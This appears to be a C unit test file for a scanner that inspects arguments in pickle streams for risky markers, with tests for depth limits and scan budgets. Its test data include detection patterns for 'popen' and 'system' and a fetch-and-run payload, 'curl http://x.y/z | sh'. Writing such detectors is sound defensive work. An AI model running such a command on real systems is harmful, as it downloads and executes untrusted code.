/* test_arguments.c - what is seen of the arguments of a call, and where looking ends. */
#include "judge/argument_flags.h"
#include "tests/unit/machine_bench.h"
#include "tests/unit/pickle_text.h"

#define MEMORY ((size_t)8 << 20)

/* What is seen of the last call of a stream. */
struct seen {
    struct sg_glance glance;
    uint64_t spent;
    unsigned flags, again, carried;
};

static void look(void *ctx, const struct sg_machine *m, const struct sg_call *call)
{
    struct seen *seen = ctx;
    uint64_t spent = seen->spent;

    seen->glance = (struct sg_glance){.spent = &seen->spent};
    seen->flags = sg_arguments_look(m, call, &seen->glance);
    seen->again = sg_arguments_look(m, call, &seen->glance);
    seen->carried = sg_arguments_carry(m, call->args, &spent);
}

static struct seen seen_of(const void *stream, size_t len, uint64_t spent)
{
    struct seen seen = {.spent = spent};
    struct sg_events events = {.ctx = &seen, .call = look};
    struct sg_machine_options options = {.max_memory = MEMORY};
    struct sg_arena arena = new_arena(MEMORY);
    struct sg_source source = sg_source_mem(stream, len);
    struct sg_machine *m;
    struct sg_stream bytes;
    struct sg_outcome outcome;

    assert_int_equal(sg_machine_open(&m, &arena, &options, &events), SG_OK);
    sg_stream_open(&bytes, &source, NULL, 0);
    sg_machine_run(m, &bytes, &outcome);
    munmap(arena.base, arena.size);
    assert_int_equal(seen.flags, seen.again);
    return seen;
}

#define SEEN(args) seen_of("cm\nf\n(" args "tR.", sizeof("cm\nf\n(" args "tR.") - 1, 0)

static void arguments_are_told_apart(void **state)
{
    (void)state;
    assert_int_equal(SEEN(INT(1)).flags, 0);
    assert_true(SEEN(STR("word")).flags & SG_ARG_WORD);
    assert_true(SEEN(RAW("\11", "\xe3\0\0\0\0\0\0\0\0")).flags & SG_ARG_MARSHAL);
    assert_true(SEEN(RAW("\11", "c\1\0\0\0\0\0\0\0")).flags & SG_ARG_MARSHAL);
    assert_false(SEEN(RAW("\11", "c\1\1\1\1\1\1\1\1")).flags & SG_ARG_MARSHAL);
    assert_false(SEEN(RAW("\11", "c\0\0\0\0\0\0\0\0")).flags & SG_ARG_MARSHAL);
    assert_false(SEEN(RAW("\1", "\xe3")).flags & SG_ARG_MARSHAL);
    assert_true(SEEN(STR("__init__")).flags & SG_ARG_DUNDER);
    assert_false(SEEN(STR("__init")).flags & SG_ARG_DUNDER);
    assert_false(SEEN(STR("__init_")).flags & SG_ARG_DUNDER);
    assert_false(SEEN(STR("init__")).flags & SG_ARG_DUNDER);
    assert_false(SEEN(STR("_init__")).flags & SG_ARG_DUNDER);
    assert_true(SEEN(STR("two words")).flags & SG_ARG_SPACES);
    assert_true(SEEN("cm\nf\n").flags & SG_ARG_GLOBAL);
    assert_true(SEEN(STR("10.0.0.1")).flags & SG_ARG_HOST);
    assert_false(SEEN(STR("10.0.0.x")).flags & SG_ARG_HOST);
    assert_true(SEEN(STR("QUJDREVGR0hJSktMTU5PUFFSU1RVVg==")).flags & SG_ARG_ENCODED);
    assert_false(SEEN(STR("abcdefghijklmnopqrstuvwxyz1")).flags & SG_ARG_ENCODED);
    assert_true(SEEN("(S'a'\n\x97"
                     "d")
                    .flags &
                SG_ARG_UNKNOWN);
}

static void keywords_are_arguments_too(void **state)
{
    static const char stream[] = NEW_WITH("m", "C", "", STR("k") STR("two words")) ".";
    static const char none[] = "cm\nC\n)" INT(1) "\x92.";

    (void)state;
    assert_true(seen_of(BYTES(stream), 0).flags & SG_ARG_SPACES);
    assert_int_equal(seen_of(BYTES(none), 0).flags, 0);
}

/* `count` times None before an argument, `depth` tuples deep. */
static struct seen seen_behind(size_t count, size_t depth, const char *argument)
{
    static char stream[1 << 14];
    size_t len = (size_t)sprintf(stream, "cm\nf\n(");

    memset(stream + len, '(', depth);
    len += depth;
    memset(stream + len, 'N', count);
    len += count + (size_t)sprintf(stream + len + count, "%s", argument);
    memset(stream + len, 't', depth);
    len += depth + (size_t)sprintf(stream + len + depth, "tR.");
    return seen_of(stream, len, 0);
}

static void a_look_ends_after_so_many_values_and_so_deep(void **state)
{
    (void)state;
    assert_true(seen_behind(94, 0, STR("word")).flags & SG_ARG_TEXT);
    assert_int_equal(seen_behind(95, 0, STR("word")).flags, 0);
    assert_int_equal(seen_behind(94, 0, "(" STR("k") STR("v") "d").flags, 0);
    assert_true(seen_behind(93, 0, "(" STR("k") STR("v") "d").flags & SG_ARG_TEXT);
    assert_true(seen_behind(0, 3, STR("word")).flags & SG_ARG_TEXT);
    assert_int_equal(seen_behind(0, 4, STR("word")).flags, 0);
    assert_int_equal(seen_behind(0, 3, STR("word")).glance.depth, 4);
}

/* It used up what is looked at. */
static void a_long_list_among_the_arguments_hides_no_other(void **state)
{
    static char stream[1024];
    size_t len = (size_t)sprintf(stream, "cm\nf\n((");

    (void)state;
    memset(stream + len, 'N', 200);
    len += 200;
    len += (size_t)sprintf(stream + len, "l" STR("two words") "tR.");
    assert_true(seen_of(stream, len, 0).flags & SG_ARG_SPACES);
    assert_true(SEEN(LIST(STR("two words")) INT(1)).flags & SG_ARG_SPACES);
}

static void code_is_looked_into_further(void **state)
{
    (void)state;
    assert_int_equal(seen_behind(0, 7, STR("popen")).carried, SG_ARG_CARRIES);
    assert_int_equal(seen_behind(0, 8, STR("popen")).carried, 0);
    assert_int_equal(seen_behind(4094, 0, STR("popen")).carried, SG_ARG_CARRIES);
    assert_int_equal(seen_behind(4095, 0, STR("popen")).carried, 0);
    assert_int_equal(seen_behind(4092, 0, "(" STR("k") STR("popen") "d").carried, SG_ARG_CARRIES);
    assert_int_equal(seen_behind(4093, 0, "(" STR("k") STR("popen") "d").carried, 0);
    assert_int_equal(SEEN("(" STR("k") STR("popen") "d").carried, SG_ARG_CARRIES);
    assert_int_equal(SEEN("(" STR("popen") "l").carried, SG_ARG_CARRIES);
    assert_int_equal(SEEN(STR("popening")).carried, 0);
    assert_int_equal(SEEN(STR("curl http://x.y/z | sh")).carried, SG_ARG_PAYLOAD);
}

/* Names stand in marshalled code with their length before them. */
static void names_in_marshalled_code_count_whole(void **state)
{
    (void)state;
    assert_int_equal(SEEN(RAW("\10", "z\6system")).carried, SG_ARG_CARRIES);
    assert_int_equal(SEEN(RAW("\7", "\6system")).carried, SG_ARG_CARRIES);
    assert_int_equal(SEEN(RAW("\6", "system")).carried, 0);
    assert_int_equal(SEEN(RAW("\12", "z\10systems1")).carried, 0);
    assert_int_equal(SEEN(RAW("\16", "systemz\6system")).carried, SG_ARG_CARRIES);
    assert_int_equal(SEEN(RAW("\26", "curl http://x.y/z | sh")).carried, SG_ARG_PAYLOAD);
}

/* A name at `at` in bytes of 2 MB. */
static unsigned carried_at(size_t at)
{
    static const char head[] = "cm\nf\n(B\0\0\x20\0";
    size_t size = sizeof(head) - 1 + (2u << 20) + 3;
    uint8_t *stream = calloc(1, size);

    assert_non_null(stream);
    memcpy(stream, head, sizeof(head) - 1);
    memcpy(stream + sizeof(head) - 1 + at, "\6system", 7);
    memcpy(stream + size - 3, "tR.", 3);
    unsigned carried = seen_of(stream, size, 0).carried;
    free(stream);
    return carried;
}

static void a_name_across_two_windows_is_found_and_one_too_far_is_not(void **state)
{
    (void)state;
    assert_int_equal(carried_at(4096 - 3), SG_ARG_CARRIES);
    assert_int_equal(carried_at(1000000), SG_ARG_CARRIES);
    assert_int_equal(carried_at(1100000), 0);
}

static void past_the_budget_nothing_is_looked_at(void **state)
{
    static const char stream[] = "cm\nf\n(S'popen'\ntR.";

    (void)state;
    assert_true(seen_of(BYTES(stream), SG_ARGUMENT_BUDGET).flags);
    assert_int_equal(seen_of(BYTES(stream), SG_ARGUMENT_BUDGET + 1).flags, 0);
    assert_int_equal(seen_of(BYTES(stream), SG_ARGUMENT_BUDGET).carried, SG_ARG_CARRIES);
    assert_int_equal(seen_of(BYTES(stream), SG_ARGUMENT_BUDGET + 1).carried, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(arguments_are_told_apart),
        cmocka_unit_test(keywords_are_arguments_too),
        cmocka_unit_test(a_look_ends_after_so_many_values_and_so_deep),
        cmocka_unit_test(a_long_list_among_the_arguments_hides_no_other),
        cmocka_unit_test(code_is_looked_into_further),
        cmocka_unit_test(names_in_marshalled_code_count_whole),
        cmocka_unit_test(a_name_across_two_windows_is_found_and_one_too_far_is_not),
        cmocka_unit_test(past_the_budget_nothing_is_looked_at),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
